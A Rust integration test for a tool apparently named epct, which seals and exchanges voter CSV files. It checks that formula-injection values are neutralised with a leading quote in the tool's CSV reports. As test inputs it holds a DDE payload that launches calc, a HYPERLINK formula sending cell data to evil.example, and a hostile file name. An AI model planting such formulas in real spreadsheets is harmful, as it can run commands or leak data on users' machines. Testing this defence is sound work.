//! Cells such as `=cmd|' /C calc'!A0` and `=HYPERLINK(...)` in a data file, a header or
//! a file name reach epct's own CSV reports (`rejected.csv`, `manifest.csv`,
//! `receive-report.csv`) neutralised with a leading quote, while the plaintext that the
//! receiving state gets stays byte for byte the sender's rows.

mod common;

use std::fs;

use common::trust::{import_test_list, root_certified_key, signed_list, standard_services};
use common::*;

const CALC: &str = "=cmd|' /C calc'!A0";
const LINK: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

/// A header with a formula as an unknown column, a valid FR row full of formulas (only
/// warnings), and an invalid one (a date that does not exist).
fn data() -> (String, String) {
    let header = "record_type,surname,given_names,date_of_birth,place_of_birth,nationality,\
                  residence_country,residence_address,\"=HYPERLINK(\"\"x\"\")\"";
    let quoted_link = format!("\"{}\"", LINK.replace('"', "\"\""));
    let good = format!("voter,{CALC},{quoted_link},1970-05-01,@SUM(1+1),FR,BE,+32 2 000,-1");
    let bad = format!("voter,{CALC},Anna,1970-02-30,Lyon,FR,BE,Rue 1,x");
    let sent = format!("{header}\n{good}\n");
    (format!("{header}\n{good}\n{bad}\n"), sent)
}

/// Every cell of a CSV file, header included.
fn cells(bytes: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

fn neutralised(cells: &[Vec<String>]) {
    for cell in cells.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a live formula cell: {cell:?} in {cells:?}"
        );
    }
}

#[test]
fn formulas_in_names_reach_the_csv_reports_neutralised_and_the_plaintext_unchanged() {
    let env = Epct::with_token("BE");
    env.add_token("FR");
    let dir = env.dir();
    let be = root_certified_key(&env, "BE", "be", "/C=BE/O=FPS Interior/CN=Elections");
    let fr = env.certified_key("FR", "fr", "rsa2048", &TestCa::new(dir, "HOME"));
    env.file(
        "partners.csv",
        format!(
            "country,authority,role,certificate\nBE,FPS Interior,sender,{}\nFR,Intérieur,recipient,{}\n",
            be.display(),
            fr.display()
        ),
    );
    let list = signed_list(dir, "BE", 1, &standard_services(), "tl-signer");
    import_test_list(env.epct(), &list);
    env.epct()
        .args(["partners", "import", "partners.csv"])
        .assert()
        .success();
    let (input, sent) = data();
    env.file("be.csv", &input);

    // data validate warns about every formula-like text value.
    let report = env
        .epct()
        .args(["--json", "data", "validate", "be.csv"])
        .output()
        .unwrap();
    let report = parse_json(&report);
    let formulas: Vec<&str> = report["problems"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|p| p["rule"] == "formula_like")
        .map(|p| p["column"].as_str().unwrap())
        .collect();
    assert_eq!(
        formulas,
        [
            "surname",
            "given_names",
            "place_of_birth",
            "residence_address",
            "surname"
        ]
    );

    fs::create_dir_all(env.path("out")).unwrap();
    let out = env
        .epct()
        .args([
            "--json", "--token", "BE", "exchange", "send", "be.csv", "--key", "be",
        ])
        .args(["--out-dir", "out", "--skip-invalid"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let manifest = parse_json(&out);
    assert_eq!(manifest["rejected_rows"], 1);

    let rejected = cells(&fs::read(env.path("out/rejected.csv")).unwrap());
    neutralised(&rejected);
    assert_eq!(rejected[0][10], "'=HYPERLINK(\"x\")");
    assert_eq!(rejected[1][0], "3");
    assert_eq!(rejected[1][3], format!("'{CALC}"));
    let manifest_csv = cells(&fs::read(env.path("out/manifest.csv")).unwrap());
    neutralised(&manifest_csv);
    assert_eq!(manifest_csv.len(), 2);

    // FR receives the sealed file, and a copy under a formula of a name.
    let sealed = manifest["files"][0]["file"].as_str().unwrap().to_owned();
    fs::create_dir_all(env.path("inbox")).unwrap();
    fs::create_dir_all(env.path("received")).unwrap();
    fs::copy(
        env.path(&format!("out/{sealed}")),
        env.path(&format!("inbox/{sealed}")),
    )
    .unwrap();
    let hostile = "=cmd|' -C calc'!A0.p7m";
    fs::copy(
        env.path(&format!("out/{sealed}")),
        env.path(&format!("inbox/{hostile}")),
    )
    .unwrap();
    let out = env
        .epct()
        .args([
            "--token", "FR", "exchange", "receive", "inbox", "--key", "fr",
        ])
        .args(["--out-dir", "received"])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(status(ExitCode::Failure)),
        "{out:?}"
    );
    let report = cells(
        &fs::read(common::exchange::receive_report(
            &env.path("received"),
            "csv",
        ))
        .unwrap(),
    );
    neutralised(&report);
    let files: Vec<(&str, &str)> = report[1..]
        .iter()
        .map(|r| (r[0].as_str(), r[1].as_str()))
        .collect();
    assert_eq!(
        files,
        [
            ("'=cmd|' -C calc'!A0.p7m", "failed"),
            (sealed.as_str(), "received")
        ]
    );

    let plaintext =
        fs::read(env.path(&format!("received/{}", sealed.replace(".p7m", ".csv")))).unwrap();
    assert_eq!(
        String::from_utf8(plaintext).unwrap(),
        sent,
        "byte for byte the sent rows"
    );
    assert_eq!(
        fs::read_dir(env.path("received")).unwrap().count(),
        4,
        "the plaintext, the two reports and the receipts, nothing else"
    );
    assert!(
        env.path(&format!("received/receipts/{sealed}.receipt"))
            .is_file()
    );
}
